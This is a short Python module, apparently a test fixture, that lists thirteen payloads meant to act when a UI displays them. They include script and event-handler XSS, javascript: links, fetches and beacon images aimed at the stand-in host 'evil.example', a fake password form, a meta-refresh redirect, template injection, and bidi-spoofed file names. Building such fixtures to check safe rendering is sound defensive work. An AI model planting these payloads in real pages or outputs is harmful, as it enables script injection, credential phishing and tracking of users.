"""Thirteen texts that try to act when shown, and what each would do if it could."""

HOST = "evil.example"
MARK = "moriartyPwned"

PAYLOADS = (
    f"<script>window.{MARK}=1;fetch('https://{HOST}/script')</script>",
    f'<img src=x onerror="window.{MARK}=1"><img src="https://{HOST}/pixel.png">',
    f'<svg onload="window.{MARK}=1"><image href="https://{HOST}/svg.png"/></svg>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f'[click](javascript:window.{MARK}=1) <a href="javascript:window.{MARK}=1">click</a>',
    f"![beacon](https://{HOST}/markdown.png)",
    f'<form action="https://{HOST}/login"><input name=password type=password></form>',
    "<style>body,section,div{display:none!important}</style>",
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/meta">',
    f"{{{{constructor.constructor('window.{MARK}=1')()}}}} ${{window.{MARK}=1}} {{% raw %}}",
    "safe\u202eelif.exe\u202c and \u2066isolated\u2069 text",
    "nul\x00byte and bell\x07 and escape\x1b[31m",
    "$E=mc^2$ $$\\frac{1}{0}$$ :material/delete: :red[alarm] :streamlit: ~~gone~~ `code`",
)
